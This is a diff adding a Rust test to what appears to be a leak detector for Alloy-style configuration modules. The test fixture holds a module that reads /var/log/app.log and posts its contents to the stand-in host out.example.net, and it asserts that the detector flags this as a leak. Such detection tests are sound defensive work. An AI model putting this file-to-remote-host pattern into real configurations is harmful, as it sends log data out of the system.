@@ -92,6 +92,13 @@ fn text_of_a_log_file_leaks_with_the_request_for_a_module() {
 }
 
 #[test]
+fn text_of_a_log_file_leaks_through_what_a_module_is_given() {
+    let module = "declare \"post\" {\n  argument \"text\" { }\n  remote.http \"r\" {\n    url = \"https://out.example.net/x\"\n    body = argument.text.value\n  }\n}\npost \"p\" { text = local.file.f.content }\n";
+    leak(&with_file("\"/var/log/app.log\"", module), &["https://out.example.net/x"]);
+    ends(&with_file("\"/etc/app/request\"", module), Verdict::NotApplicable);
+}
+
+#[test]
 fn answers_of_loki_leak_as_a_body() {
     let program = |api: &str| {
         format!(
